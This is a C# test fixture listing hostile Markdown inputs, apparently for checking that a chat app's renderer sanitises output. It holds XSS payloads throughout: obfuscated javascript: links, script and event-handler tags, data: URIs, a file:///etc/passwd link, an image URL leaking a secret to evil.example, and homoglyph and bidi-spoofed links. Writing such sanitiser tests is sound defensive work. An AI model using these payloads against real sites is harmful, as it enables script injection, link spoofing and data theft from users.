namespace BlazorChat.Tests.Markdown;

/// <summary>Texts that try to get something past the renderer.</summary>
internal static class HostileMarkdown
{
    public static IReadOnlyList<string> All { get; } =
    [
        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a]( javascript:alert(1))", "[a](<javascript:alert(1)>)", "[a](<java script:alert(1)>)",
        "[a](java\tscript:alert(1))", "[a](<java\tscript:alert(1)>)", "[a](<\u0001javascript:alert(1)>)", "[a](java&#10;script:alert(1))", "[a](java&Tab;script:alert(1))",
        "[a](java&NewLine;script:alert(1))", "[a](&#106;avascript:alert(1))", "[a](&#x6A;&#x61;vascript&colon;alert(1))", "[a](javascript&colon;alert(1))", "[a](javascript&#58;alert(1))",
        "[a](\\javascript:alert(1))", "[a](javascript\\:alert(1))", "[a](vbscript:msgbox(1))", "[a](data:text/html,<script>alert(1)</script>)", "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "[a](file:///etc/passwd)", "[a](ftp://example.com/x)", "[a](blob:https://example.com/1)", "[a](about:blank)", "[a](view-source:https://example.com)", "[a](//evil.example/x)",
        "[a](/local/path)", "[a](#id)", "[a](?x=1)", "[a](http:evil.example)", "[a](http:/evil.example)", "[a](https:///evil.example)", "[a](http://)", "[a](http://\\evil.example)",
        "[a](http://good.example\\@evil.example)", "[a](http://good.example@evil.example/)", "[a](http://user:pass@evil.example:8080/x)", "[a](http://evil.example%00.good.example)",
        "[a](http://evil.example/\"onmouseover=\"alert(1))", "[a](<http://evil.example/\" onmouseover=\"alert(1)>)", "[a](http://evil.example 't\" onclick=\"alert(1)')",
        "[a](http://evil.example \"t' onclick='alert(1)\")", "[a](http://evil.example){onclick=alert(1)}", "# Heading {#id onclick=alert(1)}", "para {.class style=color:red}",
        "```js {onclick=alert(1)}\ncode\n```", "```\"><script>alert(1)</script>\ncode\n```", "- ```\"onclick=alert(1)\n  code\n  ```", "- ```x\"><img/src=x/onerror=alert(1)>\n  code\n  ```",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<style>*{display:none}</style>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0>",
        "<form action=//evil.example><input name=x>", "<!--<img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<div\nonclick=alert(1)\n>", "text <b onclick=alert(1)>bold</b>", "</p></div></section><script>alert(1)</script>", "</section><section>", "<template><script>alert(1)</script></template>",
        "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<data:text/html,x>", "<vbscript:x>", "<mailto:a@b.example?subject=x&body=y>", "<a@b.example\">", "<http://evil.example/\"onclick=\"x>",
        "http://evil.example/\"onclick=\"alert(1)", "http://evil.example/<script>alert(1)</script>", "www.evil.example\"><script>", "mailto:a@b.example\"onclick=x", "tel:+1234\"onclick", "ftp://evil.example",
        "[a]\n\n[a]: javascript:alert(1)", "[a]\n\n[a]: <javascript:alert(1)> \"t\"", "[a][b]\n\n[b]: data:text/html,x", "[a]: javascript:alert(1)\n[a]", "![a][b]\n\n[b]: http://evil.example/x.png",
        "![a](javascript:alert(1))", "![a](http://evil.example/p.png?leak=secret)", "![a](https://evil.example/p.png \"title\" )", "![a](//evil.example/p.png)", "![a](/\\evil.example/p.png)",
        "![a](</\t/evil.example/p.png>)", "![a](/&#9;/evil.example/p.png)", "![a](\\\\evil.example\\p.png)", "![a](data:image/svg+xml;base64,PHN2Zz4=)", "![a](data:image/svg+xml,<svg onload=alert(1)>)",
        "![a](data:text/html;base64,PHNjcmlwdD4=)", "![a](data:image/png;base64,AAAA\"onerror=\"x)", "![a](data:image/png,x)", "![a\" onerror=\"alert(1)](/x.png)", "![a](/x.png \"t\\\" onerror=\\\"alert(1)\")",
        "![a](/x.png){onerror=alert(1)}", "![a](relative.png)", "![a](../up.png)", "![a](blob:x)", "[![a](http://evil.example/i.png)](javascript:alert(1))", "[![a](http://evil.example/i.png)](https://good.example)",
        "![video](https://evil.example/v.mp4)", "![yt](https://www.youtube.com/watch?v=x)", "[a [b](https://x.example) c](https://y.example)", "[a](https://x.example \"\u202Egnp.exe\")",
        "[\u202Emoc.elpmaxe\u202C](https://evil.example)", "\u202E[a](https://x.example)\u2066", "[a](https://\u0430pple.com/)", "https://\u0430pple.com/", "[apple.com](https://\u0430pple.com)", "[a](https://ex\u00ADample.com)",
        "[a](https://ex\u200Bample.com)", "[a](https://evil\u3002example)", "[a](https://evil.example\uFF0Fgood.example)", "[https://good.example](https://evil.example)", "[java\u200Bscript:](java\u200Bscript:alert(1))",
        "\0[a](java\0script:alert(1))", "[a](\0javascript:alert(1))", "<scr\0ipt>alert(1)</scr\0ipt>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "`<script>alert(1)</script>`",
        "| <script>alert(1)</script> | [a](javascript:x) |\n|---|:-:|\n| <img src=x onerror=x> | `|` |", "- [ ] <input autofocus onfocus=alert(1)>\n- [x] [a](javascript:x)", "\\(<img src=x onerror=alert(1)>\\)",
        "$$</p><script>alert(1)</script>$$", "\\[<svg onload=alert(1)>\\]", "[a](", "[a](<", "![", "[[[[", "**[a](javascript:x", "`", "~~~", "<", "<a", "&", "&#", "\\", "|", "| - |", "[x]: <", "[^1]: <script>x</script>",
        ":::evil\n<script>x</script>\n:::", "---\ntitle: <script>x</script>\n---\n", "*[HTML]: <script>x</script>\n\nHTML", "[TOC]", "@[x](y)", "^^<b>^^ ==x== ~x~ ^x^ ++x++", "\u2028<script>alert(1)</script>\u2029",
        "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<textarea></textarea><script>alert(1)</script>", "<table><form><input name=x></table>", "[a](https://x.example/\u202Egnp)", "\uD800<script>\uDC00",
    ];
}
